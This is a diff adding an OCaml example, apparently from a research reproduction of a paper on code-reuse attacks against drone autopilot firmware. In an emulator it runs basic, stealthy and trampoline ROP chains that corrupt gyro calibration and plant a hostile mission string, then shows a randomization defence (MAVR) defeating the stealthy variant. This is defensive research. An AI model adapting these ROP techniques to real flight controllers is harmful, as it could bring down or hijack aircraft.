@@ -1,0 +1,136 @@
+(* The paper's §IV attacks, end to end, with the Fig. 6 stack-progression
+   dumps.  Runs all three variants against the vulnerable firmware:
+
+     V1  basic ROP        — changes the gyro calibration, then crashes;
+     V2  stealthy ROP     — same effect, stack repaired, clean return;
+     V3  trampoline ROP   — stages an arbitrarily large payload in free
+                            SRAM via clean-return volleys, then executes
+                            it and returns cleanly again.
+
+     dune exec examples/stealthy_attack.exe
+*)
+
+module Cpu = Mavr_avr.Cpu
+module Io = Mavr_avr.Device.Io
+module Image = Mavr_obj.Image
+module Rop = Mavr_core.Rop
+module Gadget = Mavr_core.Gadget
+module Trace = Mavr_avr.Trace
+module Layout = Mavr_firmware.Layout
+
+let boot image =
+  let cpu = Cpu.create () in
+  Cpu.load_program cpu image.Image.code;
+  Cpu.io_poke cpu Io.gyro_lo 0x34;
+  Cpu.io_poke cpu Io.gyro_hi 0x12;
+  ignore (Cpu.run cpu ~max_cycles:60_000);
+  cpu
+
+let gyro_cfg cpu =
+  Cpu.data_peek cpu Layout.gyro_cfg lor (Cpu.data_peek cpu (Layout.gyro_cfg + 1) lsl 8)
+
+let outcome = function
+  | `Halted h -> Format.asprintf "CRASHED (%a)" Cpu.pp_halt h
+  | `Budget_exhausted -> "still flying"
+
+let snapshot cpu label ~pos =
+  Format.printf "%a@." Trace.pp_snapshot
+    (Trace.snapshot cpu ~label ~window_start:pos ~window_len:16)
+
+let () =
+  print_endline "== Stealthy code-reuse attacks on the autopilot (paper §IV) ==\n";
+  let build =
+    Mavr_firmware.Build.build (Mavr_firmware.Profile.tiny ~n:100 ~seed:2024)
+      Mavr_firmware.Profile.mavr
+  in
+
+  (* -- attacker reconnaissance: gadgets + dry run (threat model §IV-A) -- *)
+  let ti = Rop.analyze build in
+  let obs = Rop.observe ti in
+  Format.printf "recon: stk_move gadget at 0x%05x, write_mem gadget at 0x%05x@."
+    ti.gadgets.stk_move ti.gadgets.write_mem;
+  Format.printf "recon: vulnerable frame at SP=0x%04x, saved bytes %s@.@." obs.s0
+    (String.concat " "
+       (List.init 6 (fun i -> Printf.sprintf "%02x" (Char.code obs.saved_bytes.[i]))));
+
+  print_endline "-- gadget disassembly (cf. Fig. 4 / Fig. 5) --";
+  print_string
+    (Mavr_avr.Disasm.listing ~pos:ti.gadgets.stk_move ~len:14 build.image.Image.code);
+  print_newline ();
+  print_string
+    (Mavr_avr.Disasm.listing ~pos:ti.gadgets.write_mem ~len:44 build.image.Image.code);
+  print_newline ();
+
+  let cfg_write v = Rop.write_u16 obs ~addr:Layout.gyro_cfg ~value:v ~neighbour:0 in
+
+  (* ---------------- V1 ---------------- *)
+  print_endline "---- ROP attack V1: basic (destroys the stack) ----";
+  let cpu = boot build.image in
+  List.iter (Cpu.uart_send cpu) (Rop.v1_basic ti obs ~writes:[ cfg_write 0xBEEF ]);
+  let r = Cpu.run cpu ~max_cycles:2_000_000 in
+  Format.printf "gyro calibration now 0x%04x (attacker wanted 0xBEEF); board is %s@.@."
+    (gyro_cfg cpu) (outcome r);
+
+  (* ---------------- V2 ---------------- *)
+  print_endline "---- ROP attack V2: stealthy, with stack repair (Fig. 6) ----";
+  let cpu = boot build.image in
+  snapshot cpu "(i) clean stack before payload" ~pos:(obs.s0 - 12);
+  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write 0xBEEF ]);
+  (match
+     Cpu.run_until cpu ~max_cycles:3_000_000 (fun c ->
+         Cpu.pc_byte_addr c = ti.gadgets.Gadget.stk_move
+         && Cpu.data_peek c (obs.s0 - 5) <> Char.code obs.saved_bytes.[0])
+   with
+  | `Pred -> snapshot cpu "(ii) dirty stack after payload injection" ~pos:(obs.s0 - 12)
+  | _ -> print_endline "!! never reached the smashed teardown");
+  (match
+     Cpu.run_until cpu ~max_cycles:1_000 (fun c -> Cpu.sp c >= ti.stage_addr && Cpu.sp c < ti.stage_addr + 256)
+   with
+  | `Pred ->
+      snapshot cpu "(iii) pivoted: SP now inside the staging buffer" ~pos:(Cpu.sp cpu - 4)
+  | _ -> print_endline "!! pivot not observed");
+  (match Cpu.run_until cpu ~max_cycles:3_000_000 (fun c -> gyro_cfg c = 0xBEEF) with
+  | `Pred -> Format.printf "(iv) payload executed: gyro calibration = 0x%04x@." (gyro_cfg cpu)
+  | _ -> print_endline "!! write never landed");
+  let byte i = Char.code obs.saved_bytes.[i] in
+  let ret_target = ((byte 3 lsl 16) lor (byte 4 lsl 8) lor byte 5) * 2 in
+  (match Cpu.run_until cpu ~max_cycles:3_000_000 (fun c -> Cpu.pc_byte_addr c = ret_target) with
+  | `Pred -> snapshot cpu "(v) repaired stack at the clean return" ~pos:(obs.s0 - 12)
+  | _ -> print_endline "!! clean return not observed");
+  let r = Cpu.run cpu ~max_cycles:2_000_000 in
+  Format.printf "board is %s; watchdog feeds continue: %b@.@." (outcome r)
+    (Cpu.watchdog_feeds cpu > 1000);
+
+  (* ---------------- V3 ---------------- *)
+  print_endline "---- ROP attack V3: trampoline (arbitrarily large payload) ----";
+  let cpu = boot build.image in
+  let mission = "MISSION-OVERRIDE LAT=47.6205 LON=-122.3493 ALT=15 SPEED=MAX LAND=HOSTILE" in
+  let dest = Layout.free_region + 0x400 in
+  let writes =
+    let n = String.length mission in
+    let b i = if i < n then Char.code mission.[i] else 0 in
+    List.init ((n + 2) / 3) (fun k ->
+        { Rop.base = dest + (3 * k) - 1; bytes = (b (3 * k), b ((3 * k) + 1), b ((3 * k) + 2)) })
+  in
+  let frames = Rop.v3_execute ti obs ~chain_dest:Layout.free_region ~writes in
+  Format.printf "staging a %d-byte chain (%d writes) via %d MAVLink frames...@."
+    (String.length (Rop.big_chain_bytes ti obs ~writes))
+    (List.length writes) (List.length frames);
+  List.iter
+    (fun f ->
+      Cpu.uart_send cpu f;
+      ignore (Cpu.run cpu ~max_cycles:300_000))
+    frames;
+  let r = Cpu.run cpu ~max_cycles:1_000_000 in
+  let injected = Cpu.stack_slice cpu ~pos:dest ~len:(String.length mission) in
+  Format.printf "payload now in SRAM at 0x%04x: %S@." dest injected;
+  Format.printf "board is %s — the ground station never noticed a thing.@.@." (outcome r);
+
+  (* ---------------- vs MAVR ---------------- *)
+  print_endline "---- the same V2 attack against a MAVR-randomized binary ----";
+  let randomized = Mavr_core.Randomize.randomize ~seed:7 build.image in
+  let cpu = boot randomized in
+  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write 0xBEEF ]);
+  let r = Cpu.run cpu ~max_cycles:3_000_000 in
+  Format.printf "gyro calibration: 0x%04x (unchanged = attack defeated); board is %s@."
+    (gyro_cfg cpu) (outcome r)
